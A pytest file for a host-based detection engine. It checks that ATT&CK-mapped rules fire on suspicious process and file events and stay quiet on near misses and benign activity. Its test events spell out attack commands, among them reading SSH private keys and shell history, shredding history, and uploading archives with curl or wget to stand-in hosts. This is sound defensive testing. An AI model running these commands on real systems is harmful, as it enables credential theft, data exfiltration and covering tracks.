"""The built-in rules: each technique fires on procedures other than the built-in ability's own, and a
benign event set (the agent, the server, package managers, ordinary shell use) raises nothing."""

from __future__ import annotations

import pytest
from detection_helpers import exec_event, proc_event

from assay.detection import Engine
from assay.events import Event

PYTHON_PARENT = {
    "process.parent.executable": "/usr/bin/python3.11",
    "process.parent.command_line": "python3 -m x",
}
DPKG_SCRIPT = {
    "process.parent.executable": "/usr/bin/dash",
    "process.parent.command_line": "/bin/sh /var/lib/dpkg/info/openssh-server.postinst configure",
}


@pytest.fixture(scope="module")
def engine() -> Engine:
    eng = Engine.load(include_builtin=True)
    assert eng.errors == []
    return eng


@pytest.fixture
def fresh_engine() -> Engine:
    """An engine with no correlation state carried over from other tests."""
    return Engine.load(include_builtin=True)


def techniques(engine: Engine, event: Event) -> set[str]:
    return {t for a in engine.process(event) for t in a.techniques}


POSITIVE: list[tuple[str, Event]] = [
    ("T1082", exec_event("uname", "-srm")),
    ("T1082", exec_event("hostnamectl")),
    ("T1082", exec_event("head", "-n3", "/etc/os-release")),
    ("T1082", exec_event("grep", "PRETTY", "/usr/lib/os-release", "/etc/lsb-release")),
    ("T1082", exec_event("cat", "/proc/version")),
    ("T1033", exec_event("whoami")),
    ("T1033", exec_event("id", "-un")),
    ("T1033", exec_event("w", "-h")),
    ("T1057", exec_event("ps", "-ef")),
    ("T1057", exec_event("ps", "axo", "pid,comm")),
    ("T1057", exec_event("ps", "-A")),
    ("T1057", exec_event("pstree", "-p")),
    ("T1087.001", exec_event("cut", "-d:", "-f1", "/etc/passwd")),
    ("T1069.001", exec_event("getent", "group")),
    ("T1087.001", exec_event("awk", "-F:", "$3>=1000", "/etc/passwd")),
    ("T1518.001", exec_event("pgrep", "-a", "osqueryd")),
    ("T1518.001", exec_event("systemctl", "is-active", "falcon-sensor")),
    ("T1518.001", exec_event("grep", "-Ei", "wazuh|tetragon")),
    ("T1016", exec_event("ip", "-4", "route")),
    ("T1016", exec_event("cat", "/etc/resolv.conf")),
    ("T1016", exec_event("netstat", "-rn")),
    ("T1546.004", proc_event("file_write", "/usr/bin/dash", **{"file.path": "/tmp/h.x/.bashrc"})),
    ("T1546.004", proc_event("file_write", "/usr/bin/python3.11", **{"file.path": "/home/u/.zshrc"})),
    ("T1546.004", proc_event("file_write", "/usr/bin/tee", **{"file.path": "/etc/profile.d/zz.sh"})),
    (
        "T1543.002",
        proc_event("file_write", "/usr/bin/dash", **{"file.path": "/tmp/h/.config/systemd/user/upd.service"}),
    ),
    ("T1543.002", proc_event("file_write", "/usr/bin/cp", **{"file.path": "/etc/systemd/system/x.timer"})),
    ("T1552.004", exec_event("cat", "/tmp/h/.ssh/id_ed25519")),
    ("T1552.004", exec_event("find", "/", "-name", "*.pem")),
    ("T1552.004", exec_event("cp", "/home/u/.ssh/id_rsa", "/tmp/k")),
    (
        "T1552.004",
        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/root/.ssh/id_rsa"}),
    ),
    ("T1552.003", exec_event("grep", "-i", "pass", "/tmp/h/.bash_history")),
    ("T1552.003", exec_event("strings", "/root/.zsh_history")),
    ("T1552.003", exec_event("tail", "-n50", "/home/u/.mysql_history")),
    ("T1070.003", exec_event("truncate", "-s0", "/tmp/h/.bash_history")),
    ("T1070.003", exec_event("shred", "-u", "/root/.zsh_history")),
    ("T1070.003", exec_event("ln", "-sf", "/dev/null", "/home/u/.bash_history")),
    ("T1070.003", proc_event("file_delete", "/usr/bin/python3.11", **{"file.path": "/home/u/.bash_history"})),
    ("T1140", exec_event("base64", "--decode")),
    ("T1140", exec_event("openssl", "enc", "-d", "-base64", "-in", "x")),
    ("T1140", exec_event("xxd", "-r", "-p")),
    ("T1140", exec_event("perl", "-MMIME::Base64", "-e", "print decode_base64($x)")),
    # Shells an interpreter or network tool starts: interactive, bare (commands on stdin), -c, or a staged
    # script; a version manager's chmod outside its own shims still counts.
    ("T1059.004", exec_event("sh", "-i", exe="/usr/bin/dash", parent=PYTHON_PARENT)),
    ("T1059.004", exec_event("/bin/bash", exe="/usr/bin/bash", parent=PYTHON_PARENT)),
    ("T1059.004", exec_event("sh", "-c", "id", exe="/usr/bin/dash", parent=PYTHON_PARENT)),
    ("T1059.004", exec_event("sh", "/dev/shm/x.sh", exe="/usr/bin/dash", parent=PYTHON_PARENT)),
    (
        "T1222.002",
        exec_event(
            "chmod",
            "+x",
            "/tmp/implant",
            parent={
                "process.parent.executable": "/usr/bin/bash",
                "process.parent.command_line": "bash /root/.pyenv/libexec/pyenv-rehash",
            },
        ),
    ),
    ("T1570", exec_event("scp", "/tmp/implant", "root@10.0.0.5:/tmp/")),
    ("T1570", exec_event("scp", "-i", "k", "./linpeas.sh", "admin@web01:")),
    ("T1570", exec_event("rsync", "-a", "/usr/local/bin/agent", "host2:/opt/")),
    ("T1570", exec_event("scp", "tools.tar.gz", "u@h:/var/tmp/")),
    # Remote hosts the kernel already knows of; a listing from a relative start at the top of the tree.
    ("T1018", exec_event("arp", "-a")),
    ("T1018", exec_event("arp", "-en", exe="/usr/sbin/arp")),
    ("T1018", exec_event("ip", "-4", "neigh", "show", exe="/usr/sbin/ip")),
    ("T1018", exec_event("ip", "tcp_metrics", exe="/usr/bin/ip")),
    ("T1018", exec_event("awk", "{print $1}", "/proc/net/arp")),
    ("T1083", exec_event("find", ".", "-name", "*.conf", **{"process.working_directory": "/"})),
    ("T1083", exec_event("find", "-type", "f", **{"process.working_directory": "/root"})),
    ("T1083", exec_event("ls", "-laR", **{"process.working_directory": "/home/alice"})),
    ("T1222.002", exec_event("chmod", "+x", "/tmp/payload")),
    ("T1222.002", exec_event("chmod", "0777", "/tmp/d")),
    ("T1222.002", exec_event("chmod", "o+w", "/tmp/d")),
    ("T1222.002", exec_event("chmod", "4755", "/tmp/sh")),
    ("T1222.002", exec_event("chmod", "u=rwx", "run.sh")),
    ("T1560.001", exec_event("tar", "-cjf", "/tmp/out.tbz", "/tmp/stage")),
    ("T1560.001", exec_event("tar", "czf", "o.tgz", "d")),
    ("T1560.001", exec_event("tar", "--create", "--file=o.tar", "d")),
    ("T1560.001", exec_event("zip", "-qr", "o.zip", "d")),
    ("T1560.001", exec_event("7z", "a", "o.7z", "d")),
    (
        "T1048.003",
        proc_event("connect", "/usr/bin/bash", **{"destination.ip": "127.0.0.1", "destination.port": 4444}),
    ),
    ("T1048.003", exec_event("curl", "-T", "/tmp/o.tgz", "http://127.0.0.1:8000/")),
    ("T1048.003", exec_event("curl", "--data-binary", "@/tmp/o.tgz", "ftp://10.0.0.1/")),
    ("T1048.003", exec_event("wget", "--post-file=/tmp/o", "http://x/")),
    ("T1059.006", exec_event("python3", "-c", "import os; os.system('id')", exe="/usr/bin/python3.11")),
    ("T1059.006", exec_event("python", "-Ic", "print(1)", exe="/usr/bin/python2.7")),
    # arecord is a link to aplay: the sensor's Image is the file mapped, the recorder is the name it ran by
    (
        "T1123",
        exec_event(
            "arecord",
            "-d",
            "5",
            "o.wav",
            exe="/usr/bin/aplay",
            **{"process.exec_filename": "/usr/bin/arecord"},
        ),
    ),
    ("T1564.001", proc_event("file_write", "/usr/bin/cp", **{"file.path": "/var/tmp/build/.cache/.x/.run"})),
    ("T1564.001", proc_event("file_write", "/usr/bin/bash", **{"file.path": "/dev/shm/a/.h/b/.conf"})),
    (
        "T1003.007",
        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/proc/812/environ"}),
    ),
    ("T1003.007", proc_event("file_read_sensitive", "/usr/bin/dd", **{"file.path": "/proc/77/task/78/mem"})),
    ("T1548.003", exec_event("sudo", "-nl")),
    ("T1548.003", exec_event("sudo", "--list", "-U", "bob")),
    (
        "T1548.003",
        proc_event("file_read_sensitive", "/usr/bin/grep", **{"file.path": "/etc/sudoers.d/90-cloud"}),
    ),
    (
        "T1489",
        proc_event(
            "kill",
            "/usr/bin/python3.11",
            **{"signal.number": 9, "signal.target_executable": "/usr/sbin/mysqld"},
        ),
    ),
    (
        "T1489",
        proc_event(
            "kill",
            "/usr/bin/bash",
            **{"signal.number": 15, "signal.target_executable": "/usr/lib/postgresql/15/bin/postgres"},
        ),
    ),
]


@pytest.mark.parametrize(
    ("technique", "event"), POSITIVE, ids=[f"{t}-{i}" for i, (t, _) in enumerate(POSITIVE)]
)
def test_rule_fires_on_behaviour(engine: Engine, technique: str, event: Event) -> None:
    found = techniques(engine, event)
    assert technique in found, f"{technique} not raised for {event.fields.get('process.command_line')}"


NEAR_MISSES: list[tuple[str, Event]] = [
    ("bare ps lists only the terminal's processes", exec_event("ps")),
    ("ps for one pid", exec_event("ps", "-o", "pid=", "-p", "42")),
    ("tar extracting", exec_event("tar", "-xzf", "o.tgz")),
    ("tar listing", exec_event("tar", "tf", "o.tar")),
    ("7z listing", exec_event("7z", "l", "o.7z")),
    ("chmod removing rights", exec_event("chmod", "go-w", "f")),
    ("chmod 644", exec_event("chmod", "644", "f")),
    (
        "a program running its own shell script",
        exec_event("/bin/sh", "/srv/app/cron.sh", "60", exe="/usr/bin/dash", parent=PYTHON_PARENT),
    ),
    ("a note copied to another host", exec_event("scp", "-q", "/srv/notes.txt", "root@h2:/srv/copied.txt")),
    ("a report synced", exec_event("rsync", "-a", "report-2026.csv", "backup:/reports/")),
    ("an interface brought up", exec_event("ip", "link", "set", "veth0", "up", exe="/usr/sbin/ip")),
    ("a route added", exec_event("ip", "route", "add", "10.9.0.0/16", "via", "10.0.0.1", exe="/usr/sbin/ip")),
    ("a static ARP entry", exec_event("arp", "-s", "10.0.0.9", "00:11:22:33:44:55", exe="/usr/sbin/arp")),
    ("flushing the neighbour cache", exec_event("ip", "neigh", "flush", "dev", "eth0", exe="/usr/sbin/ip")),
    (
        "find in a project directory",
        exec_event("find", ".", "-name", "*.pyc", **{"process.working_directory": "/srv/app"}),
    ),
    ("ls -R of a subdirectory", exec_event("ls", "-R", "src", **{"process.working_directory": "/root"})),
    ("ssh using its key", exec_event("ssh", "-i", "/home/u/.ssh/id_rsa", "host")),
    ("public key read", exec_event("cat", "/home/u/.ssh/id_rsa.pub")),
    ("base64 encoding", exec_event("base64", "/tmp/f")),
    ("curl over https", exec_event("curl", "-T", "/tmp/f", "https://example.org/")),
    ("python script file", exec_event("python3", "tool.py", exe="/usr/bin/python3.11")),
    ("history shown by bash builtin is no exec; less on a log", exec_event("less", "/var/log/syslog")),
    ("aplay playing a sound", exec_event("aplay", "ding.wav", exe="/usr/bin/aplay")),
    (
        "a dotfile of a temporary HOME",
        proc_event("file_write", "/usr/bin/bash", **{"file.path": "/tmp/t/home/.config/app/settings.ini"}),
    ),
    (
        "own environment",
        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/proc/self/environ"}),
    ),
    (
        "sudo reading its policy",
        proc_event("file_read_sensitive", "/usr/bin/sudo", **{"file.path": "/etc/sudoers"}),
    ),
    ("sudo running a command", exec_event("sudo", "-u", "bob", "ls", "-l")),
    (
        "the service manager stopping a database",
        proc_event(
            "kill",
            "/usr/lib/systemd/systemd",
            **{"signal.number": 15, "signal.target_executable": "/usr/sbin/mysqld"},
        ),
    ),
    (
        "a reload signal to a web server",
        proc_event(
            "kill", "/usr/bin/bash", **{"signal.number": 10, "signal.target_executable": "/usr/sbin/nginx"}
        ),
    ),
    (
        "a shell killing its own job",
        proc_event(
            "kill", "/usr/bin/bash", **{"signal.number": 15, "signal.target_executable": "/usr/bin/sleep"}
        ),
    ),
    (
        "shell over a unix socket",
        proc_event("connect", "/usr/bin/bash", **{"network.family": "unix", "unix.path": "/run/x.sock"}),
    ),
]


@pytest.mark.parametrize(("why", "event"), NEAR_MISSES, ids=[w for w, _ in NEAR_MISSES])
def test_near_misses_do_not_fire(fresh_engine: Engine, why: str, event: Event) -> None:
    assert fresh_engine.process(event) == [], why


def benign_events() -> list[Event]:
    """The agent, the server, apt/dpkg and ordinary shell use, as the sensor reports them."""
    agent = {
        "process.parent.executable": "/usr/bin/python3.11",
        "process.parent.command_line": "python3 -m assay.agent",
    }
    return [
        # the agent starting executors (the harness: command on fd 3)
        exec_event("sh", "/dev/fd/3", exe="/usr/bin/dash", parent=agent),
        exec_event("bash", "/dev/fd/3", exe="/usr/bin/bash", parent=agent),
        exec_event("python3", "/dev/fd/3", exe="/usr/bin/python3.11", parent=agent),
        exec_event(
            "python3", "-m", "assay.agent", "--server", "http://127.0.0.1:8888", exe="/usr/bin/python3.11"
        ),
        proc_event(
            "connect",
            "/usr/bin/python3.11",
            ["python3", "-m", "assay.agent"],
            **{"destination.ip": "127.0.0.1", "destination.port": 8888, "network.transport": "tcp"},
        ),
        # the server
        exec_event("python3", "-m", "uvicorn", "assay.api:app", "--port", "8888", exe="/usr/bin/python3.11"),
        proc_event("accept", "/usr/bin/python3.11", ["uvicorn"], **{"source.ip": "127.0.0.1"}),
        proc_event("file_write", "/usr/bin/python3.11", ["uvicorn"], **{"file.path": "/tmp/assay/assay.db"}),
        exec_event("uname", "-p", parent=PYTHON_PARENT),
        # apt and dpkg with maintainer scripts
        exec_event("apt-get", "install", "-y", "jq"),
        exec_event(
            "dpkg",
            "--status-fd",
            "30",
            "--configure",
            "jq",
            parent={"process.parent.executable": "/usr/bin/apt-get"},
        ),
        exec_event("id", "-u", "sshd", parent=DPKG_SCRIPT),
        exec_event("uname", "-r", parent=DPKG_SCRIPT),
        exec_event("chmod", "755", "/usr/lib/x/helper", parent=DPKG_SCRIPT),
        exec_event("getent", "passwd", "sshd", parent=DPKG_SCRIPT),
        proc_event("file_write", "/usr/bin/dpkg", **{"file.path": "/etc/bash.bashrc.dpkg-new"}),
        proc_event(
            "file_write", "/usr/bin/dpkg", **{"file.path": "/lib/systemd/system/ssh.service.dpkg-new"}
        ),
        proc_event("file_write", "/usr/bin/dpkg", **{"file.path": "/usr/lib/systemd/system/jq.service"}),
        # ordinary shell use in tests and development
        exec_event("ls", "-la", "/tmp"),
        exec_event("cat", "README.md"),
        exec_event("grep", "-rn", "TODO", "src"),
        exec_event("git", "status", "--porcelain"),
        exec_event("make", "test"),
        exec_event("python3", "-m", "pytest", "-q", exe="/usr/bin/python3.11"),
        exec_event(
            "python3",
            "-c",
            "import sys; print(sys.prefix)",
            exe="/usr/bin/python3.11",
            parent={
                "process.parent.executable": "/usr/bin/python3.11",
                "process.parent.command_line": "/tmp/.venv/bin/python -m pip install -e .",
            },
        ),
        exec_event("mkdir", "-p", "/tmp/h/.ssh"),
        exec_event("chmod", "600", "/tmp/h/.ssh/id_rsa"),
        exec_event("rm", "-rf", "/tmp/build"),
        exec_event("cp", "a.txt", "b.txt"),
        exec_event("tar", "-xf", "src.tar"),
        exec_event("sleep", "1"),
        exec_event("env"),
        proc_event("file_write", "/usr/bin/bash", **{"file.path": "/home/u/.bash_history"}),
        proc_event("file_write", "/usr/bin/python3.11", **{"file.path": "/tmp/pytest-of-root/x.txt"}),
        proc_event("file_delete", "/usr/bin/rm", **{"file.path": "/tmp/build/a.o"}),
        proc_event("connect", "/usr/bin/git", **{"destination.ip": "127.0.0.1", "destination.port": 9418}),
        proc_event("exit", "/usr/bin/dash"),
        proc_event("fork", "/usr/bin/dash"),
    ]


def test_benign_event_set_raises_nothing(fresh_engine: Engine) -> None:
    events = benign_events()
    fired = [(a.title, e.fields.get("process.command_line")) for e in events for a in fresh_engine.process(e)]
    fired += [(a.title, "window closed") for a in fresh_engine.flush(events[-1].timestamp + 86_400)]
    assert fired == []


def test_builtin_rules_cover_the_first_library_but_t1049() -> None:
    expected = {
        "T1082", "T1033", "T1057", "T1087.001", "T1518.001", "T1016", "T1546.004", "T1543.002",
        "T1552.004", "T1552.003", "T1070.003", "T1140", "T1222.002", "T1560.001", "T1048.003", "T1059.006",
    }  # fmt: skip
    engine = Engine.load(include_builtin=True)
    assert expected <= engine.mapped_techniques
    assert "T1049" not in engine.mapped_techniques  # left without a rule on purpose (architecture §8)


def test_alerts_carry_lineage_for_attribution(fresh_engine: Engine) -> None:
    ev = exec_event("whoami")
    (alert,) = fresh_engine.process(ev)
    assert alert.entity_id == ev.entity_id and alert.pid == ev.pid
    assert alert.lineage == (ev.entity_id, "999:9990", "1:1")
    assert alert.techniques == ("T1033",) and alert.events == (ev,)
    assert alert.rule_file and alert.rule_file.endswith("system_owner_user_discovery.yml")


def test_engine_publishes_what_validation_needs(engine: Engine) -> None:
    assert {"exec", "file_write", "file_delete", "connect"} <= engine.consumed_actions
    # No built-in rule reads process lifecycle events: a builtin-only ability stays missed_no_telemetry.
    assert not {"fork", "exit", "loss"} & engine.consumed_actions


def test_a_version_manager_rehashing_its_shims_is_suppressed_with_its_reason(fresh_engine: Engine) -> None:
    rehash = {
        "process.parent.executable": "/usr/bin/bash",
        "process.parent.command_line": "bash /root/.pyenv/libexec/pyenv-rehash",
    }
    alerts = fresh_engine.process(exec_event("chmod", "+x", "/root/.pyenv/shims/.pyenv-shim", parent=rehash))
    assert alerts
    assert all(a.suppressed_by and a.suppressed_by.entry_id == "version-manager-shims" for a in alerts)


@pytest.mark.parametrize(
    ("technique", "temporary", "target"),
    [
        ("T1548.003", "/etc/sedAb12Cd", "/etc/sudoers"),  # sed -i writes a temporary file, then renames it
        ("T1546.004", "/root/.bashrc.swp", "/root/.bashrc"),
        ("T1543.002", "/etc/systemd/system/.x.service.tmp", "/etc/systemd/system/x.service"),
    ],
)
def test_a_file_renamed_over_its_target_is_a_write_of_the_target(
    fresh_engine: Engine, technique: str, temporary: str, target: str
) -> None:
    sed = ["sed", "-i", "s/a/b/", target]
    rename = proc_event(
        "file_rename", "/usr/bin/sed", sed, **{"file.path": temporary, "file.target_path": target}
    )
    alerts = fresh_engine.process(rename)
    assert technique in {t for a in alerts for t in a.techniques}
    assert all(a.events == (rename,) for a in alerts)
    # The same rename to a harmless name is nothing.
    other = {"file.path": temporary, "file.target_path": "/srv/app/notes.txt"}
    assert fresh_engine.process(proc_event("file_rename", "/usr/bin/sed", sed, **other)) == []


def test_a_loop_of_probes_to_many_hosts_is_a_sweep_but_a_few_hosts_are_not(fresh_engine: Engine) -> None:
    def probe(ip: str, parent: str, ts: float) -> Event:
        ev = proc_event(
            "connect",
            "/usr/bin/ping",
            ["ping", "-c1", ip],
            **{"destination.ip": ip, "destination.port": 1025, "network.transport": "udp"},
        )
        ev.fields["process.parent.entity_id"] = parent
        ev.fields["@timestamp"] = ts
        return ev

    title = "Remote System Discovery - Processes of One Parent Reach Many Hosts"
    few = [a.title for i in range(5) for a in fresh_engine.process(probe(f"10.1.0.{i}", "77:1", 100.0 + i))]
    assert title not in few
    sweep = [
        a.title for i in range(1, 30) for a in fresh_engine.process(probe(f"10.2.0.{i}", "78:1", 200.0 + i))
    ]
    assert sweep.count(title) == 1
